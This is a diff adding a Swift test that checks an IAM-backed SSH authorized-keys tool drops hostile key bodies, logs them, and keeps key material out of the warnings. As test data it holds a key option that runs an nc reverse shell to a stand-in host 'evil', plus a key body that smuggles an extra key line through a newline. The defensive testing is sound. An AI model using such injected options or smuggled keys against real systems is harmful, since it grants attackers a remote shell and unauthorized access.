@@ -1,0 +1,22 @@
+import Testing
+
+@testable import AuthorizedKeys
+@testable import TestSupport
+
+/// Key bodies from IAM that would inject options or extra lines never reach sshd.
+@Suite struct KeyCommandHostileBodyTests {
+    @Test func hostileBodyNeverReachesStandardOutput() {
+        let harness = KeyHarness()
+        harness.iam.setKeys(
+            "alice",
+            [
+                .init(id: "BAD", body: "command=\"nc -e /bin/sh evil 1\" " + KeyTestKeys.ed25519),
+                .init(id: "NL", body: KeyTestKeys.ecdsa + "\nssh-ed25519 AAAAinjected"),
+            ])
+        let outcome = harness.run()
+        #expect(outcome.output.isEmpty)
+        let warnings = harness.log.all.filter { $0.hasPrefix("warning: IAM SSH key dropped") }
+        #expect(warnings.count == 2)
+        #expect(warnings.allSatisfy { !$0.contains("AAAA") })
+    }
+}
